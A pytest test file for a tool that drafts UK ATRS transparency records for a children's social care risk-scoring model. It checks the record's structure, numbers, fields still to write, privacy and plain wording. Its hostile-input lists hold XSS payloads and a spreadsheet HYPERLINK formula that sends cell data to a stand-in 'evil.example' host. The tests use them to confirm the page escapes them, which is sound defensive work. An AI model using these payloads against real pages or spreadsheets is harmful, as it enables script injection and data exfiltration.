"""The draft ATRS record: the standard's shape, the transparency summary's very numbers, a plain
list of what is left to write, and a page that is safe whatever was uploaded."""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest
import textstat
from hypothesis import given, settings
from hypothesis import strategies as st

from csc_dash import atrs, metrics, transparency
from csc_dash.cohort import GROUP_LABELS, load_sample_cohort, load_scored_csv
from csc_dash.content import atrs as atrs_words
from csc_dash.workshop.engagement import PUBLIC_FIELDS, TOO_FEW_PEOPLE, Engagement

N_BOOT = 60

#: The record's shape: each section and its fields, in the standard's names (ATRS 3.0).
SHAPE = {
    "metadata": {
        "standard",
        "standard_version",
        "status",
        "title",
        "organisation",
        "function",
        "phase",
        "geographical_region",
    },
    "tier_1": {"name", "description", "website", "contact_email"},
    "tier_2": {
        "owner_and_responsibility": {
            "organisation",
            "team",
            "senior_responsible_owner",
            "external_supplier_involvement",
        },
        "description_and_rationale": {
            "detailed_description",
            "scope",
            "benefit",
            "previous_process",
            "alternatives_considered",
        },
        "decision_making_process": {
            "process_integration",
            "provided_information",
            "frequency_and_scale_of_usage",
            "human_decisions_and_review",
            "required_training",
            "appeals_and_review",
        },
        "tool_specification": {
            "system_architecture",
            "maintenance",
            "model_performance",
            "model_performance_by_group",
            "chosen_line",
        },
        "data": {
            "source_data_name",
            "data_description",
            "data_quantities",
            "sensitive_attributes",
            "data_completeness_and_representativeness",
            "data_collection",
            "data_sharing_agreements",
            "data_access_and_storage",
        },
        "risks_mitigations_and_impact_assessments": {
            "impact_assessments",
            "engagement_took_part",
            "engagement_decisions",
        },
    },
}
# Fields whose values the app computes: never left for a person, never None.
COMPUTED = {
    "tier_2.tool_specification.model_performance",
    "tier_2.tool_specification.model_performance_by_group",
    "tier_2.data.data_quantities",
    "tier_2.risks_mitigations_and_impact_assessments.engagement_took_part",
}
RISKS = "risks_mitigations_and_impact_assessments"
TOOK_PART, DECIDED = atrs.ENGAGEMENT_FIELDS


def decision(title="Flag fewer families", **changes):
    """A decision as :func:`csc_dash.workshop.engagement.public_decisions` gives it."""
    made = {
        "decision": title,
        "status": "adopted",
        "where_it_stands": "We did it",
        "why": "Too many false alarms.",
        "what_it_drew_on": "2 statements and 1 saved view",
        "recorded": "2025-03-14",
    }
    return {**made, **changes}


def engaged(*decisions, people=12, workshop="Spring workshop"):
    return Engagement(workshop=workshop, people=people, decisions=tuple(decisions))


@pytest.fixture(scope="module")
def sample():
    return load_sample_cohort("moderate")


@pytest.fixture(scope="module")
def fig(sample):
    threshold = metrics.threshold_for_top_share(sample.scores("structured"), 0.1)
    return transparency.transparency_figures(
        sample, model="structured", threshold=threshold, n_boot=N_BOOT
    )


def _check_shape(value, shape, path=""):
    if isinstance(shape, set):
        assert set(value) == shape, path
        return
    assert set(value) == set(shape), path
    for key, inner in shape.items():
        _check_shape(value[key], inner, f"{path}.{key}".strip("."))


def _leaves(value, path=""):
    if isinstance(value, dict) and path not in COMPUTED:
        for key, inner in value.items():
            yield from _leaves(inner, f"{path}.{key}".strip("."))
    else:
        yield path, value


# --- Shape ------------------------------------------------------------------------------------


def test_the_record_has_the_standards_sections_and_fields(fig):
    record = atrs.atrs_record(fig)
    _check_shape(record, SHAPE)
    assert record["metadata"]["standard_version"] == atrs.STANDARD_VERSION == "3.0"
    assert "draft" in record["metadata"]["status"]
    # The characteristics checked, by their plain names.
    assert record["tier_2"]["data"]["sensitive_attributes"] == [GROUP_LABELS[c] for c in fig.groups]
    assert "Ethnicity" in record["tier_2"]["data"]["sensitive_attributes"]
    # Every leaf is JSON's own kind of value; free text is a string or None.
    for path, value in _leaves(record):
        assert value is None or isinstance(value, str | int | float | list | dict), path


def test_performance_has_its_numbers_with_intervals(fig):
    perf = atrs.atrs_record(fig)["tier_2"]["tool_specification"]["model_performance"]
    assert set(perf) == {"tested_on", "per_1000_referrals", "average_precision", "intervals"}
    assert set(perf["per_1000_referrals"]) == {
        "flagged",
        "flagged_went_on_to_a_plan_or_care",
        "false_alarms",
        "children_missed",
    }
    for item in perf["per_1000_referrals"].values():
        assert set(item) == {"label", "number", "likely_range"}
        low, high = item["likely_range"]
        assert isinstance(item["number"], int) and low <= item["number"] <= high
    ap = perf["average_precision"]
    assert ap["likely_range"][0] <= ap["value"] <= ap["likely_range"][1]


def test_json_round_trips_and_lists_what_to_write(fig):
    record = atrs.atrs_record(fig)
    loaded = json.loads(atrs.atrs_json(record))
    todo = loaded.pop("fields_to_write")
    assert loaded == json.loads(json.dumps(record))
    assert todo == [path for path, _ in atrs.fields_to_write(record)]


# --- What a person must still write ---------------------------------------------------------


def test_every_empty_field_is_listed_with_a_plain_prompt(fig):
    record = atrs.atrs_record(fig)
    empty = {path for path, value in _leaves(record) if value is None}
    listed = {path for path, _ in atrs.fields_to_write(record)}
    assert empty == listed
    assert "tier_2.tool_specification.chosen_line.rationale" in listed
    assert "tier_1.contact_email" in listed
    # What the app knows is not left for a person.
    for known in (
        "tier_1.name",
        "tier_2.decision_making_process.human_decisions_and_review",
        "tier_2.data.sensitive_attributes",
    ):
        assert known not in listed


def test_a_written_rationale_is_kept_and_leaves_the_list(fig):
    record = atrs.atrs_record(fig, rationale="  Flag what two workers can look at again.  ")
    line = record["tier_2"]["tool_specification"]["chosen_line"]
    assert line["rationale"] == "Flag what two workers can look at again."
    assert "tier_2.tool_specification.chosen_line.rationale" not in dict(
        atrs.fields_to_write(record)
    )
    blank = atrs.atrs_record(fig, rationale="   ")
    assert blank["tier_2"]["tool_specification"]["chosen_line"]["rationale"] is None


@pytest.mark.parametrize("rationale", [None, "", "  ", "Two workers can look again."])
def test_prompts_left_before_a_record_are_the_records(fig, rationale):
    record = atrs.atrs_record(fig, rationale=rationale)
    assert atrs.prompts_left(rationale) == [p for _, p in atrs.fields_to_write(record)]


@pytest.mark.parametrize("prompt", list(atrs.FIELD_PROMPTS.values()))
def test_prompts_are_plain(prompt):
    assert prompt.endswith(".")
    assert textstat.flesch_kincaid_grade(prompt) <= 8


def test_fixed_sentences_are_plain():
    for text in (atrs.HUMAN_REVIEW, atrs.NO_DECISIONS):
        assert textstat.flesch_kincaid_grade(text) <= 8


# --- The transparency summary's numbers, exactly -----------------------------------------------


def test_numbers_are_the_transparency_summarys(fig):
    record = atrs.atrs_record(fig)
    spec = record["tier_2"]["tool_specification"]
    perf = spec["model_performance"]
    summary = transparency.render_summary(fig)
    cells = re.findall(
        r'<tr><th scope="row">([^<]*)</th><td class="num">([^<]*)</td>'
        r'<td class="num">([^<]*)</td></tr>',
        summary,
    )
    rows = {label: (number, span) for label, number, span in cells}
    assert len(rows) == 4
    for item in perf["per_1000_referrals"].values():
        number, span = rows[html.escape(item["label"])]
        low, high = item["likely_range"]
        assert number == f"{item['number']:,}" and span == f"{low:,} to {high:,}"
    assert perf["tested_on"] == {
        "referrals": fig.referrals,
        "went_on_to_a_plan_or_care": fig.escalated,
    }
    assert perf["average_precision"]["value"] == fig.average_precision
    assert perf["average_precision"]["likely_range"] == list(fig.average_precision_interval)
    assert perf["average_precision"]["random_scores"] == fig.baseline
    assert spec["chosen_line"]["score_threshold"] == fig.threshold
    assert spec["chosen_line"]["flagged_per_1000"] == fig.people["flagged"]
    # By group: the same values as the summary's tables (group_error_rates), row for row.
    by_group = spec["model_performance_by_group"]
    assert list(by_group) == list(fig.groups)
    for name, table in fig.groups.items():
        assert [row["group"] for row in by_group[name]] == list(table["label"])
        for row, (_key, r) in zip(by_group[name], table.iterrows(), strict=True):
            assert row["referrals"] == int(r["n"]) and row["too_few"] == bool(r["too_few"])
            if row["too_few"]:
                assert row["fdr"] is None
                continue
            for rate in ("share_flagged", "fdr", "fnr"):
                assert row[rate]["value"] == pytest.approx(float(r[rate]), abs=0, rel=0)
                assert row[rate]["likely_range"] == [
                    float(r[f"{rate}_low"]),
                    float(r[f"{rate}_high"]),
                ]


def test_the_page_shows_the_summarys_own_tables(fig):
    record = atrs.atrs_record(fig)
    page = atrs.atrs_html(record, fig)
    summary = transparency.render_summary(fig)
    per_1000 = transparency.per_1000_table_html(fig)
    assert per_1000 in page and per_1000 in summary
    for column, table in fig.groups.items():
        one = transparency.group_table_html(column, table)
        assert one in page and one in summary


def test_no_groups_is_said():
    frame = pd.DataFrame(
        {
            "outcome": [1, 0] * 40,
            "score": np.linspace(0, 1, 80),
        }
    )
    cohort = load_scored_csv(
        frame.to_csv(index=False).encode(), outcome="outcome", scores=["score"]
    )
    bare = transparency.transparency_figures(
        cohort, model=cohort.models[0], threshold=0.5, n_boot=N_BOOT
    )
    record = atrs.atrs_record(bare)
    assert record["tier_2"]["tool_specification"]["model_performance_by_group"] == {}
    assert record["tier_2"]["data"]["sensitive_attributes"] == []
    page = atrs.atrs_html(record, bare)
    assert transparency.NO_GROUPS_LINE in page


# --- The decision log ------------------------------------------------------------------------


def _risks(record):
    return record["tier_2"][RISKS]


def test_no_workshop_chosen_leaves_what_the_engagement_found_to_write(fig):
    record = atrs.atrs_record(fig)
    assert _risks(record)["engagement_took_part"] is None
    assert _risks(record)["engagement_decisions"] is None
    todo = dict(atrs.fields_to_write(record))
    assert TOOK_PART in todo and DECIDED in todo
    page = atrs.atrs_html(record, fig)
    assert "<h3>What the engagement found</h3>\n" + f'<p><span class="few">{atrs.TO_WRITE}' in page


def test_a_workshop_with_no_decisions_yet(fig):
    record = atrs.atrs_record(fig, engagement=engaged())
    took_part = _risks(record)["engagement_took_part"]
    assert took_part == {
        "workshop": "Spring workshop",
        "workshops": 1,
        "people": 12,
        "too_few_to_tell": False,
        "in_words": "12 people took part in one workshop.",
    }
    assert _risks(record)["engagement_decisions"] is None
    todo = dict(atrs.fields_to_write(record))
    assert TOOK_PART not in todo and DECIDED in todo
    page = atrs.atrs_html(record, fig)
    assert atrs.NO_DECISIONS in page and "12 people took part in one workshop." in page


def test_decisions_go_into_the_json_and_the_page(fig):
    first, second = decision(), decision("Check by age", status="in_progress",
                                         where_it_stands="We are working on it", why="")  # fmt: skip
    record = atrs.atrs_record(fig, engagement=engaged(second, first))
    log = _risks(record)["engagement_decisions"]
    assert log == [second, first]
    assert json.loads(atrs.atrs_json(record))["tier_2"][RISKS]["engagement_decisions"] == log
    todo = dict(atrs.fields_to_write(record))
    assert TOOK_PART not in todo and DECIDED not in todo
    page = atrs.atrs_html(record, fig)
    assert atrs.NO_DECISIONS not in page
    # One small table for each decision, its rows in the order of the headings.
    tables = re.findall(r'<table class="fields decision">.*?</table>', page)
    assert len(tables) == 2
    for table, made in zip(tables, log, strict=True):
        cells = re.findall(r'<th scope="row">([^<]*)</th><td>([^<]*)</td>', table)
        assert cells == [
            (html.escape(heading), html.escape(made[name]))
            for name, heading in atrs_words.DECISION_HEADINGS.items()
        ]
    assert page.index("Check by age") < page.index("Flag fewer families")


def test_only_the_public_fields_of_a_decision_reach_the_record(fig):
    leaky = {**decision(), "created_by": "ann", "pseudonym": "Robin", "what_you_said": "My son",
             "links": "statement 4", "decision_id": 7}  # fmt: skip
    record = atrs.atrs_record(fig, engagement=engaged(leaky))
    (kept,) = _risks(record)["engagement_decisions"]
    assert set(kept) == set(PUBLIC_FIELDS.values())
    for text in (atrs.atrs_json(record), atrs.atrs_html(record, fig)):
        for secret in ("Robin", "My son", "statement 4", '"ann"', "created_by"):
            assert secret not in text


def test_too_few_people_is_said_not_counted(fig):
    record = atrs.atrs_record(fig, engagement=engaged(decision(), people=None))
    took_part = _risks(record)["engagement_took_part"]
    assert took_part["people"] is None and took_part["too_few_to_tell"] is True
    assert took_part["in_words"] == TOO_FEW_PEOPLE
    assert html.escape(TOO_FEW_PEOPLE) in atrs.atrs_html(record, fig)


@pytest.mark.parametrize("rationale", [None, "Two workers can look again."])
@pytest.mark.parametrize(
    "engagement", [None, engaged(), engaged(decision())], ids=["none", "no decisions", "decisions"]
)
def test_prompts_left_with_a_workshop_are_the_records(fig, rationale, engagement):
    record = atrs.atrs_record(fig, rationale=rationale, engagement=engagement)
    assert atrs.prompts_left(rationale, engagement=engagement) == [
        p for _, p in atrs.fields_to_write(record)
    ]
    asks = atrs.FIELD_PROMPTS[DECIDED] in atrs.prompts_left(rationale, engagement=engagement)
    assert asks == (engagement is None or not engagement.decisions)


HOSTILE_DECISIONS = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    '"><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1)) **bold**",
]


@pytest.mark.parametrize("hostile", HOSTILE_DECISIONS)
def test_hostile_decisions_are_escaped_in_the_page_and_kept_in_the_json(fig, hostile):
    made = decision(hostile, why=hostile, what_it_drew_on=hostile, where_it_stands=hostile)
    record = atrs.atrs_record(fig, engagement=engaged(made, workshop=hostile))
    page = atrs.atrs_html(record, fig)
    escaped = html.escape(hostile)
    assert page.count(escaped) >= 5  # what was decided, where, why, what it drew on, the workshop
    if escaped != hostile:
        assert hostile not in page
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= ALLOWED_TAGS  # no <a>, <img> or <script>: text stays text
    assert parser.attributes <= {
        "lang",
        "charset",
        "name",
        "content",
        "http-equiv",
        "class",
        "scope",
    }
    loaded = json.loads(atrs.atrs_json(record))["tier_2"][RISKS]
    assert loaded["engagement_decisions"] == [made]
    assert loaded["engagement_took_part"]["workshop"] == hostile


# --- Safe to open ------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>body{display:none}</style>",
    "</title><script>x</script>",
    "&amp; ' \" < >",
]
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "p", "section",
    "table", "caption", "colgroup", "col", "tr", "th", "td", "ul", "li", "span", "strong",
}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def _hostile_upload(hostile: str):
    rng = np.random.default_rng(0)
    n = 400
    y = (rng.random(n) < 0.2).astype(int)
    frame = pd.DataFrame(
        {
            "outcome": y,
            hostile + " score": np.clip(0.25 * y + rng.random(n) * 0.75, 0, 1).round(3),
            hostile: rng.choice([hostile, "B " + hostile], n),
        }
    )
    return load_scored_csv(
        frame.to_csv(index=False).encode(),
        outcome="outcome",
        scores=[hostile + " score"],
        groups=[hostile],
    )


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_upload_rationale_and_decisions_are_escaped(hostile):
    cohort = _hostile_upload(hostile)
    fig = transparency.transparency_figures(
        cohort, model=cohort.models[0], threshold=0.5, n_boot=N_BOOT
    )
    record = atrs.atrs_record(
        fig,
        rationale=hostile,
        engagement=engaged({**decision(hostile), hostile: hostile}, workshop=hostile),
    )
    page = atrs.atrs_html(record, fig)
    assert hostile not in page
    assert html.escape(hostile) in page
    lowered = page.lower()
    for forbidden in ("<script", "<img", "http://", "https://", "<link", "url("):
        assert forbidden not in lowered
    assert page.count("<style>") == 1 and page.count("</style>") == 1
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= ALLOWED_TAGS
    assert parser.attributes <= {
        "lang",
        "charset",
        "name",
        "content",
        "http-equiv",
        "class",
        "scope",
    }
    metas = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert metas == [transparency.SUMMARY_CSP]
    # JSON carries the names as typed, and reads back the same.
    loaded = json.loads(atrs.atrs_json(record))
    assert hostile in loaded["tier_2"]["data"]["sensitive_attributes"]
    assert loaded["tier_2"]["tool_specification"]["chosen_line"]["rationale"] == hostile


@settings(max_examples=25, deadline=None)
@given(text=st.text(min_size=1, max_size=40))
def test_any_rationale_is_escaped(fig, text):
    record = atrs.atrs_record(fig, rationale=text, engagement=engaged(decision(why=text)))
    page = atrs.atrs_html(record, fig)
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= ALLOWED_TAGS
    if text.strip():
        assert html.escape(text.strip()) in page
    assert json.loads(atrs.atrs_json(record))["tier_2"][RISKS]["engagement_decisions"] == [
        decision(why=text)
    ]


def test_the_page_reads_at_grade_8(fig):
    page = atrs.atrs_html(atrs.atrs_record(fig), fig)
    body = re.sub(r"<style>.*?</style>|<title>.*?</title>", " ", page, flags=re.S)
    blocks = [" ".join(b.split()) for b in re.split(r"<[^>]+>", body)]
    text = " ".join(b if b[-1] in ".!?" else b + "." for b in blocks if b.strip())
    assert textstat.flesch_kincaid_grade(text) <= 8
